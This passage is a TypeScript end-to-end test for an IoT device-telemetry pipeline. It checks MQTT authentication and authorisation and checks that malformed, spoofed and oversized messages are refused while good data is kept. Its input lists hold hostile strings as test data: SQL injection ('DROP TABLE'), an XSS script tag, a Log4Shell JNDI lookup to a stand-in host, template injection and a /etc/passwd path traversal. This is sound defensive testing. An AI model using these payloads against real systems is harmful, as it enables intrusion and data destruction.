/**
 * The edge, end to end (issue #4): only real devices, only good data, nothing good lost.
 *
 * The real chain — Mosquitto → dmp-mqtt → dmp-kernel → RocketMQ → dmp-data → ClickHouse, with Redis as the
 * device registry — as built processes. EMQX's HTTP authn/authz calls are made exactly as EMQX makes them
 * (Mosquitto, standing in for EMQX, cannot call them). Then well over 1,000 generated bad inputs of every
 * kind, mixed with good traffic from registered devices, go through the real broker; the test checks that
 * every good message is in `telemetry_raw` (the exact set of message ids), every bad one was refused with
 * its expected reason — in dmp-mqtt's metrics and, with its raw payload, in `dead_letters` — and that the
 * three apps are still healthy.
 *
 * Isolation on the shared stack: its own ClickHouse database, share group, client id, RocketMQ topics
 * (dmp_edge_test_*) and consumer groups (dmp_data_edge_test, dmp_data_dead_letter_edge_test), and device
 * ids under a per-run prefix. dmp-mqtt subscribes to `devices/#` here, so that publishes to wrong
 * channels reach it too (EMQX's ACL would refuse them before any subscriber in production); other
 * traffic on the broker then reaches it as well, which is why the assertions select this run's devices.
 */
import { createClient } from '@clickhouse/client';
import { RejectCode, TELEMETRY_PROTO_PACKAGE, TELEMETRY_PROTO_PATH } from '@dmp/contracts';
import {
  freePort,
  readMetric,
  REPO_ROOT,
  stack,
  startApp,
  waitFor,
  type RunningApp,
  callAdminApi,
} from '@dmp/testing';
import mqtt, { type MqttClient } from 'mqtt';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { promisify } from 'node:util';
import protobuf from 'protobufjs';

const run = randomBytes(3).toString('hex');
const prefix = `edge-${run}`;
const database = `dmp_test_edge_${process.pid}`;
const clientId = `edge-${run}`;
const topics = {
  event: 'dmp_edge_test_event',
  snapshot: 'dmp_edge_test_snapshot',
  deadLetter: 'dmp_edge_test_dead_letter',
};
const adminToken = randomBytes(24).toString('hex');
const authSecret = randomBytes(24).toString('hex');
const service = { username: `edge-svc-${run}`, password: randomBytes(16).toString('hex') };
/**
 * A Redis database of its own: another dmp-mqtt on the shared stack (another test's, another share group)
 * would otherwise find this run's devices registered, accept their messages too, and mark them as seen
 * in the shared duplicate keys before this run's dmp-mqtt gets to them.
 */
const redisUrl = `${stack.redis.url.replace(/\/\d*$/, '')}/${1 + (Number.parseInt(run, 16) % 15)}`;
const MAX_PAYLOAD_BYTES = 4_096;
const RATE = { perSecond: 20, burst: 50 };

// A device's messages reach dmp-kernel one round trip after the other (per-device order): many devices
// with few messages each keep the run short. Each device stays below the bucket's burst, but the flood.
const GOOD_DEVICES = 40;
const GOOD_PER_DEVICE = 40;
const BAD_SENDERS = 40;
const FLOOD = 300;
// The bad-input flood (issue #4: ~18,000 refused messages once starved good traffic): unknown devices,
// many messages each, mixed with good traffic that must still arrive within GOOD_WITHIN_MS.
const UNKNOWN_DEVICES = 200;
const UNKNOWN_PER_DEVICE = 30;
const GOOD_DURING_FLOOD_DEVICES = 10;
const GOOD_DURING_FLOOD_PER_DEVICE = 30;
const GOOD_WITHIN_MS = 30_000;
const PROTOBUF = 'application/x-protobuf';

const devicePayloadType = protobuf
  .loadSync(TELEMETRY_PROTO_PATH)
  .lookupType(`${TELEMETRY_PROTO_PACKAGE}.DevicePayload`);

// ---------------------------------------------------------------------------------------------------
// Inputs
// ---------------------------------------------------------------------------------------------------

type Metrics = Record<string, number | boolean | string>;

interface Publish {
  topic: string;
  payload: Buffer;
  contentType?: string;
}
interface Good extends Publish {
  deviceId: string;
  messageId: string;
  kind: 'telemetry' | 'event' | 'snapshot';
  ts: number;
  seq: number;
  metrics: Metrics;
}
interface Bad extends Publish {
  category: string;
  expected: string;
}

/** A small seeded PRNG (mulberry32): the run's inputs are reproducible from the seed in the log. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}
const seed = Number.parseInt(run, 16);
const random = prng(seed);
const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)];
const int = (min: number, max: number) => min + Math.floor(random() * (max - min + 1));
const nonce = () => Math.floor(random() * 2 ** 48).toString(36);
const randomBuffer = (n: number) => Buffer.from(Array.from({ length: n }, () => Math.floor(random() * 256)));
function shuffle<T>(items: T[]): T[] {
  for (let i = items.length - 1; i > 0; i--) {
    const j = Math.floor(random() * (i + 1));
    [items[i], items[j]] = [items[j], items[i]];
  }
  return items;
}

const INJECTIONS = [
  "' OR 1=1 --",
  '"; DROP TABLE telemetry_raw; --',
  "' UNION SELECT name FROM system.tables --",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.invalid/a}',
  '{{7*7}} #{7*7}',
  '../../../../etc/passwd',
  '%s%s%s%n',
  '\\\'; \\"; \\\\',
  "Robert'); DROP TABLE Students;--",
];
const UNICODE_TEXTS = [
  'température 🌡️ 21°C',
  'مرحبا بالعالم',
  'שלום \u202Eevil\u202C',
  'e\u0301e\u0301 (combining)',
  '👩‍👩‍👧‍👦 family',
  '中文字符 テスト 한국어',
  '\u200B\u200Czero width\u200D',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝕊𝕥𝕣𝕚𝕟𝕘',
  '😀'.repeat(256), // 256 code points (512 UTF-16 units, 1 KiB of UTF-8): the longest text value allowed
  'tab\tnew\nline\u0007bell',
];

const goodId = (i: number) => `${prefix}-g${String(i).padStart(2, '0')}`;
const senderId = (i: number) => `${prefix}-b${String(i).padStart(2, '0')}`;
const floodId = `${prefix}-flood`;
const toggledId = `${prefix}-toggled`;
const lateId = `${prefix}-late`;
const unknownId = (i: number) => `${prefix}-x${String(i).padStart(3, '0')}`;
const registeredIds = [
  ...Array.from({ length: GOOD_DEVICES }, (_, i) => goodId(i)),
  ...Array.from({ length: BAD_SENDERS }, (_, i) => senderId(i)),
  floodId,
  toggledId,
];

const baseTs = Date.now() - 60_000;
const seqByDevice = new Map<string, number>();

function encode(body: Record<string, unknown>, format: 'json' | 'protobuf'): Publish['payload'] {
  if (format === 'json') return Buffer.from(JSON.stringify(body));
  const metrics = Object.fromEntries(
    Object.entries(body.metrics as Metrics).map(([name, v]) => [
      name,
      typeof v === 'number' ? { number: v } : typeof v === 'boolean' ? { flag: v } : { text: v },
    ]),
  );
  return Buffer.from(devicePayloadType.encode(devicePayloadType.fromObject({ ...body, metrics })).finish());
}

/** A valid message of a device; `metrics` and `kind` may be forced. */
function good(
  deviceId: string,
  options: { metrics?: Metrics; kind?: Good['kind']; format?: 'json' | 'protobuf' } = {},
): Good {
  const seq = (seqByDevice.get(deviceId) ?? 0) + 1;
  seqByDevice.set(deviceId, seq);
  const kind = options.kind ?? pick(['telemetry', 'telemetry', 'event', 'snapshot'] as const);
  const ts = baseTs + seq * 7; // unique per device: no two good messages share content
  const metrics = options.metrics ?? {
    temperature: Math.round(random() * 4000) / 100,
    door_open: random() < 0.5,
    status: pick(['ok', 'warn', 'eco']),
  };
  const messageId = `${deviceId}-m${seq}`;
  const format = options.format ?? (random() < 0.3 ? 'protobuf' : 'json');
  const body: Record<string, unknown> = { messageId, ts, seq, metrics };
  if (random() < 0.3) body.deviceId = deviceId;
  const contentType =
    format === 'protobuf' ? PROTOBUF : random() < 0.2 ? 'application/json; charset=utf-8' : undefined;
  return {
    deviceId,
    messageId,
    kind,
    ts,
    seq,
    metrics,
    topic: `devices/${deviceId}/${kind}`,
    payload: encode(body, format),
    ...(contentType ? { contentType } : {}),
  };
}

/** A syntactically valid payload for a device topic (for checks before parsing). */
function validBody(deviceId?: string): Record<string, unknown> {
  return {
    ...(deviceId ? { deviceId } : {}),
    messageId: `x-${nonce()}`,
    ts: baseTs + int(1, 1_000_000),
    metrics: { t: int(0, 100) },
  };
}

function generateBad(): Bad[] {
  const bad: Bad[] = [];
  const sender = () => senderId(int(0, BAD_SENDERS - 1));
  const channel = () => pick(['telemetry', 'event', 'snapshot'] as const);
  const add = (
    category: string,
    expected: string,
    topic: string,
    payload: Buffer | string,
    contentType?: string,
  ) =>
    bad.push({
      category,
      expected,
      topic,
      payload: typeof payload === 'string' ? Buffer.from(payload) : payload,
      ...(contentType ? { contentType } : {}),
    });
  const on = () => `devices/${sender()}/${channel()}`;

  // Malformed JSON.
  for (let i = 0; i < 150; i++) {
    const text = JSON.stringify({ ...validBody(), note: nonce() });
    const variants = [
      () => text.slice(0, int(1, text.length - 1)),
      () => `${text}${pick(['}', ']', ',', 'x', ' {}'])}`,
      () => text.replace(/"/g, "'"),
      () => `{"messageId": "${nonce()}", "ts": NaN, "metrics": {}}`,
      () => `{"messageId": "${nonce()}", "ts": 1, "metrics": {"t": Infinity}}`,
      () => `{messageId: "${nonce()}", ts: 1, metrics: {}}`,
      () => `// ${nonce()}\n${text}`,
      () => `${text}\n${text}`,
      () => `undefined ${nonce()}`,
    ];
    add('malformed JSON', RejectCode.MalformedPayload, on(), pick(variants)());
  }
  for (let i = 0; i < BAD_SENDERS; i++)
    add('malformed JSON', RejectCode.MalformedPayload, `devices/${senderId(i)}/event`, '');
  for (let i = 0; i < BAD_SENDERS; i++)
    add(
      'malformed JSON',
      RejectCode.MalformedPayload,
      `devices/${senderId(i)}/snapshot`,
      `   \n\t ${' '.repeat(i)}`,
    );

  // Wrong types.
  const wrongTypes: (() => unknown)[] = [
    () => ({ ...validBody(), ts: `${Date.now()}` }),
    () => ({ ...validBody(), ts: true }),
    () => ({ ...validBody(), ts: 1.5 + int(0, 1e6) }),
    () => ({ ...validBody(), ts: -int(1, 1e9) }),
    () => ({ ...validBody(), ts: 0 }),
    () => ({ ...validBody(), ts: Number.MAX_SAFE_INTEGER + 2 + int(0, 1e3) }),
    () => ({ ...validBody(), metrics: [int(0, 9), int(0, 9)] }),
    () => ({ ...validBody(), metrics: `t=${int(0, 9)}` }),
    () => ({ ...validBody(), metrics: null }),
    () => ({ ...validBody(), metrics: { t: { nested: int(0, 9) } } }),
    () => ({ ...validBody(), metrics: { t: [int(0, 9)] } }),
    () => ({ ...validBody(), metrics: { t: null } }),
    () => ({ ...validBody(), messageId: int(0, 1e9) }),
    () => ({ ...validBody(), seq: -int(1, 1e6) }),
    () => ({ ...validBody(), seq: `${int(1, 1e6)}` }),
    () => ({ ...validBody(), seq: 0.5 + int(0, 9) }),
    () => ({ ...validBody(), deviceId: int(0, 1e9) }),
    () => ({ ...validBody(), traceparent: int(0, 1e9) }),
    () => ({ ...validBody(), traceparent: 'x'.repeat(129) + nonce() }),
    () => ({ ...validBody(), metrics: { t: 'x'.repeat(257) + nonce() } }),
    () => [validBody()],
    () => int(0, 1e9),
    () => `just a string ${nonce()}`,
  ];
  for (let i = 0; i < 150; i++)
    add('wrong types', RejectCode.InvalidPayload, on(), JSON.stringify(pick(wrongTypes)()));
  add('wrong types', RejectCode.InvalidPayload, on(), `{"messageId":"${nonce()}","ts":1e400,"metrics":{}}`);
  add(
    'wrong types',
    RejectCode.InvalidPayload,
    on(),
    `{"messageId":"${nonce()}","ts":1,"metrics":{"t":1e400}}`,
  );
  add('wrong types', RejectCode.InvalidPayload, on(), `null`);

  // Missing fields (and fields that do not belong: the schema is strict).
  const missing: (() => Record<string, unknown>)[] = [
    () => ({ ts: baseTs, metrics: { t: 1 }, note: nonce() }),
    () => ({ messageId: nonce(), metrics: { t: 1 } }),
    () => ({ messageId: nonce(), ts: baseTs }),
    () => ({ messageId: nonce() }),
    () => ({ nonce: nonce() }),
    () => ({ ...validBody(), unexpected: nonce() }),
    () => ({ ...validBody(), Metrics: { t: 1 } }),
  ];
  for (let i = 0; i < 100; i++)
    add('missing fields', RejectCode.InvalidPayload, on(), JSON.stringify(pick(missing)()));
  add('missing fields', RejectCode.InvalidPayload, `devices/${senderId(0)}/telemetry`, '{}');

  // Oversized payloads: valid JSON or garbage, refused before parsing.
  for (let i = 0; i < 60; i++) {
    const size = int(MAX_PAYLOAD_BYTES + 1, 40_000);
    const payload =
      random() < 0.5
        ? Buffer.from(JSON.stringify({ ...validBody(), metrics: { t: 'x'.repeat(size) } }))
        : randomBuffer(size);
    add(
      'oversized payloads',
      RejectCode.PayloadTooLarge,
      on(),
      payload,
      random() < 0.3 ? PROTOBUF : undefined,
    );
  }

  // Unknown devices: never registered (whatever the payload), and one registered but disabled.
  for (let i = 0; i < 120; i++) {
    const deviceId = `${prefix}-u${int(0, 40)}`;
    const payload =
      random() < 0.7
        ? JSON.stringify(validBody(random() < 0.5 ? deviceId : undefined))
        : randomBuffer(int(1, 200));
    add('unknown devices', RejectCode.UnknownDevice, `devices/${deviceId}/${channel()}`, payload);
  }

  // Spoofed device ids: a registered device's topic, another registered device's id in the payload.
  for (let i = 0; i < 100; i++) {
    const victim = goodId(int(0, GOOD_DEVICES - 1));
    const body = validBody(victim);
    const proto = random() < 0.4;
    add(
      'spoofed device ids',
      RejectCode.SpoofedDevice,
      on(),
      encode(body, proto ? 'protobuf' : 'json'),
      proto ? PROTOBUF : undefined,
    );
  }

  // Wrong topics (all of them under devices/, this run's prefix in each).
  const wrongTopics = [
    () => `devices/${sender()}/command`,
    () => `devices/${sender()}/${pick(['status', 'TELEMETRY', 'telemetry ', 'hb', ''])}`,
    () => `devices/${sender()}/telemetry/${nonce()}`,
    () => `devices/${prefix} ${nonce()}/telemetry`,
    () => `devices/${prefix}-${'x'.repeat(64)}/event`,
    () => `devices/${prefix}-ü${nonce()}/telemetry`,
    () => `devices/${prefix}-😀/snapshot`,
    () => `devices//${prefix}`,
    () => `devices/${prefix}';DROP TABLE x;--/telemetry`,
    () => `devices/${prefix}-a/b/c/d`,
    () => `devices/${prefix}`,
  ];
  for (let i = 0; i < 120; i++)
    add('wrong topics', RejectCode.WrongTopic, pick(wrongTopics)(), JSON.stringify(validBody()));

  // Binary garbage: invalid UTF-8 as JSON, invalid wire types as Protobuf, an unsupported content type.
  for (let i = 0; i < 100; i++) {
    const kind = i % 3;
    if (kind === 0)
      add(
        'binary garbage',
        RejectCode.MalformedPayload,
        on(),
        Buffer.concat([Buffer.from([0xff]), randomBuffer(int(1, 500))]),
      );
    else if (kind === 1)
      add(
        'binary garbage',
        RejectCode.MalformedPayload,
        on(),
        Buffer.concat([Buffer.from([0x0f]), randomBuffer(int(1, 500))]),
        PROTOBUF,
      );
    else
      add(
        'binary garbage',
        RejectCode.MalformedPayload,
        on(),
        JSON.stringify(validBody()),
        pick(['text/csv', 'application/xml', 'image/png']),
      );
  }

  // Injection strings where the schema does not allow them (as metric text values they are good data).
  for (let i = 0; i < 60; i++) {
    const injection = `${pick(INJECTIONS)} ${nonce()}`;
    const where = i % 3;
    const body =
      where === 0
        ? { ...validBody(), messageId: injection }
        : where === 1
          ? { ...validBody(), metrics: { [injection]: 1 } }
          : { ...validBody(), deviceId: injection };
    add('injection strings', RejectCode.InvalidPayload, on(), JSON.stringify(body));
  }

  // Unicode edge cases where the schema does not allow them.
  for (let i = 0; i < 60; i++) {
    const where = i % 4;
    const body =
      where === 0
        ? { ...validBody(), messageId: `ü-${nonce()}` }
        : where === 1
          ? { ...validBody(), metrics: { [`température_${nonce()}`]: 1 } }
          : where === 2
            ? { ...validBody(), metrics: { t: `${'😀'.repeat(256)}${nonce()}` } } // over 256 code points
            : { ...validBody(), messageId: `a\ud800${nonce()}` }; // a lone surrogate
    add('unicode edge cases', RejectCode.InvalidPayload, on(), JSON.stringify(body));
  }
  for (let i = 0; i < 20; i++) {
    // Overlong encodings and lone continuation bytes inside a JSON string: not UTF-8.
    const evil = pick([
      Buffer.from([0xc0, 0xaf]),
      Buffer.from([0x80]),
      Buffer.from([0xed, 0xa0, 0x80]),
      Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80]),
    ]);
    add(
      'unicode edge cases',
      RejectCode.MalformedPayload,
      on(),
      Buffer.concat([
        Buffer.from(`{"messageId":"${nonce()}","ts":1,"metrics":{"t":"`),
        evil,
        Buffer.from('"}}'),
      ]),
    );
  }
  return bad;
}

// ---------------------------------------------------------------------------------------------------
// Clients
// ---------------------------------------------------------------------------------------------------

/** A few MQTT 5 connections; a topic's messages always use the same one (their order is kept). */
class Publisher {
  private readonly waiting: (() => void)[] = [];
  private inFlight = 0;

  private constructor(
    private readonly clients: MqttClient[],
    private readonly window: number,
  ) {}

  static async open(connections: number, window = 200): Promise<Publisher> {
    const clients = await Promise.all(
      Array.from({ length: connections }, (_, i) =>
        mqtt.connectAsync(stack.mqtt.url, {
          protocolVersion: 5,
          clientId: `${prefix}-pub-${i}`,
          clean: true,
          reconnectPeriod: 1_000,
        }),
      ),
    );
    for (const client of clients) client.on('error', () => undefined);
    return new Publisher(clients, window * connections);
  }

  async publish(message: Publish, qos: 0 | 1 = 1): Promise<void> {
    while (this.inFlight >= this.window) await new Promise<void>((resolve) => this.waiting.push(resolve));
    this.inFlight++;
    const client = this.clients[hash(message.topic) % this.clients.length];
    try {
      await client.publishAsync(message.topic, message.payload, {
        qos,
        ...(message.contentType ? { properties: { contentType: message.contentType } } : {}),
      });
    } finally {
      this.inFlight--;
      this.waiting.shift()?.();
    }
  }

  publishAll(messages: readonly Publish[]): Promise<void[]> {
    return Promise.all(messages.map((m) => this.publish(m)));
  }

  async close(): Promise<void> {
    await Promise.all(this.clients.map((c) => c.endAsync()));
  }
}

function hash(text: string): number {
  let h = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) h = Math.imul(h ^ text.charCodeAt(i), 0x01000193);
  return h >>> 0;
}

/** How a published message is found in the dead-letter store: topic, content type and raw payload. */
const keyOf = (m: Publish) => `${m.topic}\n${m.contentType ?? ''}\n${m.payload.toString('base64')}`;
const rowKey = (r: { source_topic: string; content_type: string; payload: string }) =>
  `${r.source_topic}\n${r.content_type}\n${r.payload}`;

const execFileAsync = promisify(execFile);

// ---------------------------------------------------------------------------------------------------

describe('the edge: only real devices, only good data, nothing good lost', () => {
  const apps: RunningApp[] = [];
  let mqttApp: RunningApp;
  const clickhouse = createClient({ url: stack.clickhouse.url, database: 'default' });
  let publisher: Publisher | undefined;
  const secrets = new Map<string, string>();

  const admin = (method: string, path: string, body?: unknown) =>
    callAdminApi(`${mqttApp.baseUrl}/admin/devices${path}`, adminToken, method, body);

  /** As EMQX's HTTP authenticator/authorizer sends it (emqx.conf body templates, JSON, shared secret header). */
  const emqx = async (endpoint: 'authn' | 'authz', body: unknown, secret: string | null = authSecret) => {
    const response = await fetch(`${mqttApp.baseUrl}/auth/mqtt/${endpoint}`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        ...(secret === null ? {} : { 'x-dmp-auth-secret': secret }),
      },
      body: typeof body === 'string' ? body : JSON.stringify(body),
    });
    assert.equal(response.status, 200, `${endpoint} answers 200 (EMQX reads anything else as "ignore")`);
    assert.match(response.headers.get('content-type') ?? '', /^application\/json/);
    return (await response.json()) as { result: string; is_superuser?: boolean };
  };

  const query = async <T>(sql: string): Promise<T[]> => {
    const result = await clickhouse.query({ query: sql, format: 'JSONEachRow' });
    return result.json<T>();
  };
  const storedIds = async () =>
    new Set(
      (
        await query<{ message_id: string }>(
          `SELECT message_id FROM ${database}.telemetry_raw FINAL WHERE device_id LIKE '${prefix}-%'`,
        )
      ).map((r) => r.message_id),
    );
  interface DeadRow {
    message_id: string;
    error_code: string;
    source_topic: string;
    content_type: string;
    payload: string;
    device_id: string;
    source: string;
  }
  const deadLetters = () =>
    query<DeadRow>(
      `SELECT message_id, error_code, source_topic, content_type, payload, device_id, source
       FROM ${database}.dead_letters FINAL
       WHERE source_instance = '${clientId}' AND position(source_topic, '${prefix}') > 0`,
    );

  before(async () => {
    const common = {
      CLICKHOUSE_DATABASE: database,
      REDIS_URL: redisUrl,
      ROCKETMQ_TOPIC_EVENT: topics.event,
      ROCKETMQ_TOPIC_SNAPSHOT: topics.snapshot,
      ROCKETMQ_TOPIC_DEAD_LETTER: topics.deadLetter,
      OTEL_ENABLED: 'false',
      LOG_LEVEL: 'warn',
    };
    const kernelGrpc = `127.0.0.1:${await freePort()}`;
    const [data, kernel, edge] = await Promise.all([
      startApp(
        'dmp-data',
        {
          ...common,
          DATA_CONSUMER_GROUP: 'dmp_data_edge_test',
          DEAD_LETTER_CONSUMER_GROUP: 'dmp_data_dead_letter_edge_test',
          DATA_BATCH_MAX_WAIT_MS: '200',
          DEAD_LETTER_BATCH_MAX_WAIT_MS: '200',
        },
        { label: `edge-${run}-dmp-data` },
      ),
      // No rules: their linkage commands (devices/<id>/command) would reach this dmp-mqtt, which
      // subscribes to devices/# to see wrong topics, and be refused as such.
      startApp(
        'dmp-kernel',
        { ...common, KERNEL_GRPC_URL: kernelGrpc, KERNEL_RULES_ENABLED: 'false' },
        { label: `edge-${run}-dmp-kernel` },
      ),
      startApp(
        'dmp-mqtt',
        {
          ...common,
          KERNEL_GRPC_URL: kernelGrpc,
          MQTT_SHARE_GROUP: `edge${run}`,
          MQTT_CLIENT_ID: clientId,
          MQTT_TOPICS: 'devices/#',
          MQTT_SESSION_EXPIRY_SECONDS: '60',
          MQTT_MAX_PAYLOAD_BYTES: String(MAX_PAYLOAD_BYTES),
          ADMIN_TOKEN: adminToken,
          MQTT_AUTH_HTTP_SECRET: authSecret,
          MQTT_SERVICE_USERNAME: service.username,
          MQTT_SERVICE_PASSWORD: service.password,
          DEVICE_RATE_LIMIT_PER_SECOND: String(RATE.perSecond),
          DEVICE_RATE_LIMIT_BURST: String(RATE.burst),
          // Phase 2 re-sends content seconds after phase 1: the default 5 s could be too short on a slow machine.
          DEDUP_CONTENT_WINDOW_MS: '120000',
        },
        { label: `edge-${run}-dmp-mqtt` },
      ),
    ]);
    apps.push(data, kernel, edge);
    mqttApp = edge;
    console.log(
      `edge e2e: run ${run}, seed ${seed}, database ${database}, ${redisUrl}, logs .stack/logs/tests/edge-${run}-*.log`,
    );

    // Devices register through the admin API, as an operator (or `dmp devices register`) would.
    await Promise.all(
      registeredIds.map(async (deviceId) => {
        const { status, body } = await admin('POST', '', { deviceId, tenantId: 't-edge', tags: { run } });
        assert.equal(status, 201, JSON.stringify(body));
        secrets.set(deviceId, body.secret as string);
      }),
    );
    publisher = await Publisher.open(4);
  });

  after(async () => {
    await publisher?.close().catch(() => undefined);
    if (mqttApp)
      for (const id of [...registeredIds, lateId]) await admin('DELETE', `/${id}`).catch(() => undefined);
    // Upstream first, so that each app drains into a running next hop.
    // Bounded: an app that does not stop within 15 s of SIGTERM is killed (and the test goes on).
    for (const app of apps.reverse()) {
      const stopped = app.stop();
      const timer = setTimeout(() => {
        console.error(`edge e2e: ${app.name} still running 15 s after SIGTERM, killing it`);
        void app.stop('SIGKILL');
      }, 15_000);
      await stopped;
      clearTimeout(timer);
    }
    await clickhouse.command({ query: `DROP DATABASE IF EXISTS ${database}` });
    await clickhouse.close();
  });

  it("answers EMQX's HTTP authn/authz calls: own credentials, own topics, nothing else", async () => {
    const device = goodId(0);
    const secret = secrets.get(device)!;
    const authn = (clientid: string, username: string, password: string, header?: string | null) =>
      emqx('authn', { clientid, username, password, peerhost: '10.1.2.3' }, header);
    const authz = (clientid: string, username: string, topic: string, action: string) =>
      emqx('authz', { clientid, username, topic, action });

    assert.deepEqual(await authn(device, device, secret), { result: 'allow', is_superuser: false });
    assert.deepEqual(await authn(clientId, service.username, service.password), {
      result: 'allow',
      is_superuser: true,
    });
    const denied = { result: 'deny', is_superuser: false };
    assert.deepEqual(await authn(device, device, `${secret}x`), denied, 'wrong secret');
    assert.deepEqual(await authn(device, device, secrets.get(goodId(1))!), denied, "another device's secret");
    assert.deepEqual(await authn(goodId(1), goodId(1), secret), denied, "another device's id");
    assert.deepEqual(await authn(`${device}-2`, device, secret), denied, 'client id is not the device id');
    assert.deepEqual(await authn(`${prefix}-u1`, `${prefix}-u1`, secret), denied, 'unknown device');
    assert.deepEqual(await authn(device, device, ''), denied, 'no password');
    assert.deepEqual(await authn('', '', ''), denied, 'anonymous');
    assert.deepEqual(await authn('c', service.username, 'guess'), denied, 'service account, wrong password');
    assert.deepEqual(await authn(device, device, secret, null), denied, 'no shared secret header');
    assert.deepEqual(
      await authn(device, device, secret, 'wrong-shared-secret'),
      denied,
      'wrong shared secret',
    );
    assert.deepEqual(await emqx('authn', '{"clientid":'), denied, 'not JSON');
    assert.deepEqual(await emqx('authn', { clientid: device }), denied, 'fields missing');

    for (const ch of ['telemetry', 'event', 'snapshot', 'heartbeat'])
      assert.deepEqual(
        await authz(device, device, `devices/${device}/${ch}`, 'publish'),
        { result: 'allow' },
        ch,
      );
    assert.deepEqual(await authz(device, device, `devices/${device}/command`, 'subscribe'), {
      result: 'allow',
    });
    for (const [topic, action] of [
      [`devices/${goodId(1)}/telemetry`, 'publish'],
      [`devices/${device}/command`, 'publish'],
      [`devices/${device}/other`, 'publish'],
      [`devices/${device}/#`, 'subscribe'],
      ['devices/+/telemetry', 'subscribe'],
      [`devices/${goodId(1)}/command`, 'subscribe'],
      ['#', 'subscribe'],
      [`devices/${device}/telemetry`, 'delete'],
    ])
      assert.deepEqual(await authz(device, device, topic, action), { result: 'deny' }, `${action} ${topic}`);
    assert.deepEqual(
      await authz(`${prefix}-u1`, `${prefix}-u1`, `devices/${prefix}-u1/telemetry`, 'publish'),
      { result: 'deny' },
      'unknown device',
    );
    assert.deepEqual(await authz(clientId, service.username, 'devices/anything/command', 'publish'), {
      result: 'allow',
    });

    // Disabled: refused at once (the registry cache is invalidated through Redis pub/sub).
    assert.equal((await admin('PATCH', `/${toggledId}`, { status: 'disabled' })).status, 200);
    assert.deepEqual(await authn(toggledId, toggledId, secrets.get(toggledId)!), denied, 'disabled device');
    assert.deepEqual(await authz(toggledId, toggledId, `devices/${toggledId}/telemetry`, 'publish'), {
      result: 'deny',
    });
    assert.equal((await admin('PATCH', `/${toggledId}`, { status: 'enabled' })).status, 200);
    assert.deepEqual(await authn(toggledId, toggledId, secrets.get(toggledId)!), {
      result: 'allow',
      is_superuser: false,
    });

    // Fast: a connection storm costs one scrypt per device, then cached checks.
    const started = performance.now();
    const storm = await Promise.all(Array.from({ length: 200 }, () => authn(device, device, secret)));
    assert.ok(storm.every((answer) => answer.result === 'allow'));
    const perCall = (performance.now() - started) / 200;
    assert.ok(perCall < 20, `cached authn calls take ${perCall.toFixed(2)} ms each`);

    for (const [endpoint, result, atLeast] of [
      ['authn', 'allow', 203],
      ['authn', 'deny', 13],
      ['authz', 'allow', 6],
      ['authz', 'deny', 10],
    ] as const) {
      const counted = await readMetric(mqttApp.baseUrl, 'dmp_mqtt_auth_total', { endpoint, result });
      assert.ok(
        counted >= atLeast,
        `dmp_mqtt_auth_total{${endpoint},${result}} = ${counted}, expected ≥ ${atLeast}`,
      );
    }

    // The admin API itself wants its token.
    const anonymous = await fetch(`${mqttApp.baseUrl}/admin/devices/${device}`);
    assert.equal(anonymous.status, 401);
    const wrongToken = await fetch(`${mqttApp.baseUrl}/admin/devices/${device}`, {
      headers: { authorization: 'Bearer not-the-token' },
    });
    assert.equal(wrongToken.status, 401);
    const shown = await admin('GET', `/${device}`);
    assert.equal(shown.status, 200);
    assert.equal(shown.body.tenantId, 't-edge');
    assert.equal('secretHash' in shown.body, false, 'the hash never leaves the registry');
  });

  it('stores every good message, refuses every bad one with its reason into the dead-letter store, stays healthy', async () => {
    const pub = publisher!;
    const goodMessages: Good[] = [];
    for (let d = 0; d < GOOD_DEVICES; d++)
      for (let i = 0; i < GOOD_PER_DEVICE; i++) {
        // Every tenth carries an injection string or a unicode edge case as a text value: good data.
        const note = i % 10 === 0 ? pick([...INJECTIONS, ...UNICODE_TEXTS]) : undefined;
        goodMessages.push(good(goodId(d), note === undefined ? {} : { metrics: { temperature: i, note } }));
      }
    const bad = generateBad();
    const heartbeats: Publish[] = Array.from({ length: 50 }, (_, i) => ({
      topic: `devices/${goodId(i % GOOD_DEVICES)}/heartbeat`,
      payload: Buffer.from(JSON.stringify({ ts: Date.now(), n: i })),
    }));
    // Every bad input is told apart by (topic, content type, payload) in the dead-letter store.
    assert.equal(new Set(bad.map(keyOf)).size, bad.length, 'bad inputs are unique');
    assert.ok(bad.length >= 1_000, `${bad.length} bad inputs`);
    // No registered device but the flood's goes over its bucket: their expected reasons are not rate limits.
    const perDevice = new Map<string, number>();
    for (const m of [...goodMessages, ...bad]) {
      const deviceId = m.topic.split('/')[1] ?? '';
      if (registeredIds.includes(deviceId)) perDevice.set(deviceId, (perDevice.get(deviceId) ?? 0) + 1);
    }
    assert.ok(
      Math.max(...perDevice.values()) < RATE.burst,
      `at most ${Math.max(...perDevice.values())} per device`,
    );
    const categories = new Map<string, number>();
    for (const b of bad) categories.set(b.category, (categories.get(b.category) ?? 0) + 1);
    console.log(`edge e2e: ${goodMessages.length} good, ${bad.length} bad`, Object.fromEntries(categories));

    // Phase 1: everything mixed, as fast as the broker takes it.
    const phase1: Publish[] = shuffle([...goodMessages, ...bad, ...heartbeats]);
    // Per device, good messages keep their order (shuffle the mix, then restore each device's order).
    const orderByDevice = new Map<string, Good[]>();
    for (const m of goodMessages)
      orderByDevice.set(m.deviceId, [...(orderByDevice.get(m.deviceId) ?? []), m]);
    const cursor = new Map<string, number>();
    const ordered = phase1.map((m) => {
      if (!('messageId' in m && 'deviceId' in m)) return m;
      const g = m as Good;
      const i = cursor.get(g.deviceId) ?? 0;
      cursor.set(g.deviceId, i + 1);
      return orderByDevice.get(g.deviceId)![i];
    });
    const t0 = Date.now();
    const elapsed = () => `${((Date.now() - t0) / 1000).toFixed(1)} s`;
    await pub.publishAll(ordered);
    console.log(`edge e2e: phase 1 published in ${elapsed()}`);
    await waitFor(
      'phase 1: every good message in ClickHouse',
